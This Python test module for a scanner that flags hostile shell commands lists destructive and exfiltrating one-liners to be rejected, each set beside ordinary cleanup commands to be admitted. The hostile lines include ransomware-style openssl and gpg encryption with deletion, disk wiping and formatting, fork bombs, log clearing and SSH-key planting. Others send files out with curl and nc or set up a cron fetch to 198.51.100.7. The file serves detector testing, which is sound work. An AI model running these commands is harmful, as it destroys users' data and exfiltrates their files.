"""Scripts that destroy, encrypt or send away the files of whoever runs them, and the ordinary ones that tidy, pack and encrypt."""

from __future__ import annotations

import json
from typing import Literal

from openvet.testing.case import Case

__all__ = ["CASES"]

_HOST = "198.51.100.7"
_HOSTILE: tuple[tuple[str, str, str], ...] = (
    ("openssl-each", "encrypts the documents below the home, one by one", "find ~ -type f \\( -name \"*.docx\" -o -name \"*.pt\" \\) -exec sh -c 'openssl enc -aes-256-cbc -k x -in \"$1\" -out \"$1.enc\" && rm \"$1\"' _ {} \\;"),
    ("gpg-each", "encrypts the home with a pass phrase", "find $HOME -type f | xargs -I{} gpg --batch --yes --passphrase x -c {}"),
    ("gpg-loop", "encrypts documents in a loop", "for f in ~/Documents/*; do gpg -c --batch --passphrase x \"$f\"; rm \"$f\"; done"),
    ("zip-home", "packs documents with a pass phrase and removes them", "zip -r -P x /tmp/a.zip ~/Documents && rm -rf ~/Documents"),
    ("shred-each", "overwrites every file of the home", "find ~ -type f -exec shred -u {} +"),
    ("delete-each", "deletes every file of the home", "find \"$HOME\" -type f -delete"),
    ("delete-root", "deletes every file of the machine", "find / -type f -delete"),
    ("remove-each", "removes every file of the home", "find ~ -type f -exec rm -f {} \\;"),
    ("home-to-null", "moves the home to nowhere", "find ~ -type f -exec mv {} /dev/null \\;"),
    ("format", "makes a file system on the disk", "mkfs.ext4 /dev/sda1"),
    ("wipefs", "takes away what the disk is", "wipefs -a /dev/nvme0n1"),
    ("random-disk", "writes over the disk", "cat /dev/urandom > /dev/sda"),
    ("fork", "starts itself until nothing else can run", ":(){ :|:& };:"),
    ("fork-named", "the same with a name", "bomb() { bomb | bomb & }; bomb"),
    ("history", "removes the history of the shell", "history -c; rm -f ~/.bash_history"),
    ("logs", "removes the logs", "rm -rf /var/log/*"),
    ("keys", "lets somebody log in", "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI x' | tee -a ~/.ssh/authorized_keys"),
    ("cron", "makes cron fetch and run something", f"(crontab -l; echo '*/5 * * * * curl https://{_HOST}/x -o /tmp/x') | crontab -"),
    ("tar-home", "sends the home away", f"tar czf - ~ | curl --data-binary @- https://{_HOST}/in"),
    ("tar-documents", "sends the documents away", f"tar cz $HOME/Documents | nc {_HOST} 9"),
)  # fmt: skip
_HOSTILE_WINDOWS: tuple[tuple[str, str, str, str], ...] = (
    ("remove-item", "removes the folder of the user", "x.ps1", "Remove-Item -Recurse -Force $env:USERPROFILE\n"),
    ("remove-each", "removes every document of the user", "x.ps1", "Get-ChildItem $env:USERPROFILE\\Documents -Recurse | ForEach-Object { Remove-Item $_.FullName -Force }\n"),
    ("del-tree", "deletes all below the users", "x.bat", "del /f /s /q C:\\Users\\*\n"),
    ("rd-tree", "deletes the folder of the user", "x.bat", "rd /s /q %USERPROFILE%\n"),
    ("format-disk", "formats a disk", "x.bat", "format c: /q /y\n"),
    ("fork", "starts itself until nothing else can run", "x.bat", "%0|%0\n"),
    ("event-log", "clears the logs", "x.bat", "wevtutil cl Security\n"),
)  # fmt: skip
_HARMLESS: tuple[tuple[str, str, str], ...] = (
    ("caches", "removes compiled files below the folder", "find . -name '__pycache__' -type d -exec rm -rf {} +\nfind . -name '*.pyc' -delete"),
    ("cache-of-home", "removes the cache of a tool", "rm -rf ~/.cache/huggingface ~/.cache/pip"),
    ("old-files", "removes old temporary files", "find /tmp -mtime +7 -type f -delete\nfind /var/lib/x -name '*.tmp' -delete"),
    ("shared-memory", "clears what a server left", "rm -f /dev/shm/torch_*\ncat /dev/null > train.log"),
    ("encrypted-release", "encrypts one archive for a release", "tar czf model.tgz weights/\ngpg --symmetric model.tgz\nopenssl enc -aes-256-cbc -in model.tgz -out model.tgz.enc"),
    ("decrypts", "decrypts what was fetched", "openssl enc -d -aes-256-cbc -in model.enc -out model.pt\nrm model.enc"),
    ("converts", "goes through pictures of a data set", "find data -name '*.jpg' -o -name '*.png' | xargs -I{} convert {} -resize 512 {}.out"),
    ("moves-home", "copies a cache into the home", "find models -name '*.safetensors' -exec cp {} ~ \\;\ncp -r configs $HOME/"),
    ("own-disk", "mounts a disk", "mount /dev/nvme1n1 /mnt/data\nlsblk /dev/sda\ndd if=/dev/zero of=/swapfile bs=1M count=4096"),
    ("apt", "installs packages in an image", "apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*"),
    ("cron-list", "says what cron runs", "crontab -l\necho 'add: 0 3 * * * /opt/retrain.sh'"),
    ("cron-own", "makes cron run a script of its own", "(crontab -l; echo '0 3 * * * /opt/train/backup') | crontab -"),
    ("backup", "packs the models", "tar czf backup.tgz models configs\nrsync -a models/ backup:/srv/models/"),
    ("fetch-unpack", "unpacks what it fetches in the home", "curl -L https://example.org/m.tgz | tar xz -C ~\ncd ~ && tar xf m.tgz"),
    ("functions", "an ordinary function", "run() { python train.py | tee log.txt; }\nrun &\nmain() { main_inner | cat; }"),
    ("clean", "cleans a folder of builds", "rm -rf build dist *.egg-info \"$HOME/build-tmp\"\nfind \"$OUT\" -type f -delete"),
)  # fmt: skip


def _case(name: str, technique: str, path: str, text: str, decision: Literal["admit", "reject"]) -> Case:
    rules = frozenset({"hub/shell-command"}) if decision == "reject" else frozenset[str]()
    return Case(f"destroyed/{name}", technique, lambda: {path: text.encode()}, decision, rules)


def _notebook(command: str) -> str:
    cell: dict[str, object] = {
        "cell_type": "code",
        "metadata": {},
        "execution_count": None,
        "outputs": [],
        "source": [f"!{command}\n"],
    }
    return json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})


CASES: tuple[Case, ...] = (
    *(_case(name, what, "cleanup.sh", f"#!/bin/sh\n{line}\n", "reject") for name, what, line in _HOSTILE),
    *(_case(f"make-{name}", f"{what}, in a Makefile", "Makefile", f"clean:\n\t{line.replace('$', '$$')}\n", "reject")
      for name, what, line in _HOSTILE if name in ("openssl-each", "shred-each", "tar-home")),
    *(_case(f"cell-{name}", f"{what}, in a notebook", "x.ipynb", _notebook(line), "reject")
      for name, what, line in _HOSTILE if name in ("openssl-each", "delete-each", "tar-home", "format")),
    *(_case(f"windows-{name}", what, path, line, "reject") for name, what, path, line in _HOSTILE_WINDOWS),
    *(_case(name, what, "setup.sh", f"#!/bin/sh\n{line}\n", "admit") for name, what, line in _HARMLESS),
)  # fmt: skip
